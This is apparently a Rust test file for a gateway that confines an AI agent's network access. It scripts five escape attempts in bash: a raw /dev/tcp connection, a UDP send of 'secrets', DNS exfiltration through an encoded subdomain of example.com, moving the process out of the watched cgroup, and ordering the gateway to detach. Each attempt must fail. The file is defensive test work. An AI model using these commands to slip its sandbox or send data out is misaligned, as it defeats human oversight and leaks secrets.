//! The agent looks for a way around the gateway, by what every shell has.

use std::process::Command;

use anyhow::{Result, ensure};
use gateway_tests::gateway::Gateway;
use gateway_tests::programs::said;

use super::AGENT;
use super::acts::Outcome;
use super::show;

/// One try.
struct Way {
    /// In plain words.
    intent: &'static str,
    /// What the agent types into bash.
    script: &'static str,
}

const WAYS: [Way; 5] = [
    Way {
        intent: "another server, of which no rule speaks",
        script: "exec 3<>/dev/tcp/127.0.0.1/6379 && echo way out",
    },
    Way {
        intent: "a datagram instead of a connection",
        script: "echo secrets > /dev/udp/127.0.0.1/9999 && echo way out",
    },
    Way {
        intent: "secrets as a name that its own name server would be asked for",
        script: "getent hosts c2VjcmV0cw.example.com && echo way out",
    },
    Way {
        intent: "step out of the cgroup whose sockets are watched",
        script: "for root in /sys/fs/cgroup /sys/fs/cgroup/unified; do \
                 [ -e $root/cgroup.procs ] && echo $$ > $root/cgroup.procs && echo way out; done",
    },
    Way {
        intent: "have the gateway let go of it",
        script: "\"$GATEWAY\" --config \"$CONFIG\" detach --all && echo way out",
    },
];

/// All of them, each of which has to fail.
pub(super) fn tried(gateway: &Gateway) -> Result<()> {
    show::title("The agent looks for a way around");
    for way in &WAYS {
        let mut agent = Command::new("/bin/bash");
        agent
            .args(["-c", &format!("{{ {}; }} 2>&1", way.script)])
            .env("GATEWAY", gateway.program())
            .env("CONFIG", gateway.config());
        let answer = said(&gateway.run_with(AGENT, &agent).output()?);
        let is_out = answer.contains("way out");
        let outcome = if is_out {
            Outcome::Allowed
        } else {
            Outcome::Refused
        };
        show::act(way.intent, way.script, outcome, &answer);
        ensure!(!is_out, "this should have been refused");
    }
    Ok(())
}
